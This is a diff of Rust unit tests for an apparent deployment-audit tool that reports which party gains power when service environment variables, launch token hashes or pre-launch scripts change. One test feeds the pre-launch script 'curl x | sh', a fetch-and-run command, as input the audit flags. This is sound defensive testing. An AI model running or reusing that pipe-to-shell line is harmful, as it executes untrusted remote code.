@@ -36,7 +36,21 @@ fn a_literal_that_becomes_a_variable_gives_power_to_the_operator() {
     assert_eq!(found.grew(), [&Party::Operator, &Party::Host]);
     let change = found.changes.iter().find(|change| change.path == "services.web.environment.URL").unwrap();
     assert_eq!(change.power, Power::Grew(Party::Operator));
-    assert_eq!(between(&other, &one, &["URL"], &[]).grew(), Vec::<&Party>::new());
+    // Back again, the operator and the host lose it, and the audit finds whoever has that fixed address: DP-URL-002.
+    let back = between(&other, &one, &["URL"], &[]);
+    assert_eq!(back.grew(), [&Party::Remote]);
+    let grown = back.changes.iter().filter(|change| matches!(change.power, Power::Grew(_)));
+    assert!(grown.clone().all(|change| change.path.starts_with("DP-URL-002 ")), "{back:?}");
+    let change = back.changes.iter().find(|change| change.path == "services.web.environment.URL").unwrap();
+    assert_eq!(change.power, Power::Shrank(Party::Operator));
+}
+
+#[test]
+fn a_variable_that_becomes_a_literal_without_an_address_gives_power_to_nobody() {
+    let one = service("    environment:\n      - QUILL=a\n");
+    let other = service("    environment:\n      - QUILL=${QUILL}\n");
+    assert_eq!(between(&one, &other, &[], &["QUILL"]).grew(), [&Party::Operator, &Party::Host]);
+    assert_eq!(between(&other, &one, &["QUILL"], &[]).grew(), Vec::<&Party>::new());
 }
 
 #[test]
@@ -75,9 +89,20 @@ fn a_list_entry_that_moves_is_no_change() {
 #[test]
 fn a_launch_token_that_disappears_gives_power_to_the_host() {
     let text = service("");
-    let with = deployment(&text, &["A"], serde_json::json!({ "launch_token_hash": "00" }));
-    let without = deployment(&text, &["A"], serde_json::json!({}));
-    assert_eq!(diff(&with, &without).grew(), [&Party::Host]);
+    let of = |version: serde_json::Value, hash: &str| {
+        let requirements = serde_json::json!({ "launch_token_hash": hash });
+        let more = serde_json::json!({ "manifest_version": version, "requirements": requirements });
+        deployment(&text, &["A"], more)
+    };
+    let hash = "ab".repeat(32);
+    let without = deployment(&text, &["A"], serde_json::json!({ "manifest_version": "3" }));
+    assert_eq!(diff(&of("3".into(), &hash), &without).grew(), [&Party::Host]);
+    // One that no guest enforces held nobody back: not a hash, a version under which it is ignored, no requirement.
+    let beside = deployment(&text, &["A"], serde_json::json!({ "launch_token_hash": hash.as_str() }));
+    for void in [of("3".into(), "00"), of(2.into(), &hash), beside] {
+        assert!(!diff(&void, &without).grew().contains(&&Party::Host));
+        assert!(diff(&of("3".into(), &hash), &void).grew().contains(&&Party::Host));
+    }
 }
 
 #[test]
@@ -86,8 +111,18 @@ fn a_changed_script_is_shown() {
     let one = deployment(&text, &[], serde_json::json!({ "pre_launch_script": "true\n" }));
     let other = deployment(&text, &[], serde_json::json!({ "pre_launch_script": "curl x | sh\n" }));
     let found = diff(&one, &other);
-    assert_eq!(found.changes.len(), 1);
-    assert_eq!(found.changes[0].path, "manifest.pre_launch_script");
+    let paths: Vec<&str> = found.changes.iter().map(|change| change.path.as_str()).collect();
+    // The text; that the one nobody read is another one now (gone and new); and what the audit finds in it.
+    assert_eq!(
+        paths,
+        [
+            "DP-SCR-001 pre_launch_script",
+            "DP-SCR-001 pre_launch_script",
+            "DP-SCR-003 pre_launch_script",
+            "manifest.pre_launch_script",
+        ]
+    );
+    assert_eq!(found.grew(), [&Party::Operator]);
 }
 
 #[test]
@@ -110,5 +145,12 @@ fn a_script_that_takes_in_a_value_from_outside_gives_power_to_whoever_chooses_it
         found.changes.iter().find(|change| change.path == "manifest.pre_launch_script.$TOKEN").unwrap();
     assert_eq!(change.power, Power::Grew(Party::Operator));
     assert_eq!(change.after.as_deref(), Some("login \"$TOKEN\""));
-    assert_eq!(diff(&with("echo \"$TOKEN\"\n"), &with("echo\n")).grew(), Vec::<&Party>::new());
+    // Back again, only that an unread script runs as root and is not the one that somebody may have read.
+    let back = diff(&with("echo \"$TOKEN\"\n"), &with("echo\n"));
+    let grown = back.changes.iter().filter(|change| matches!(change.power, Power::Grew(_)));
+    let grown: Vec<&str> = grown.map(|change| change.path.as_str()).collect();
+    assert_eq!(grown, ["DP-SCR-001 pre_launch_script"]);
+    let change =
+        back.changes.iter().find(|change| change.path == "manifest.pre_launch_script.$TOKEN").unwrap();
+    assert_eq!(change.power, Power::Shrank(Party::Operator));
 }
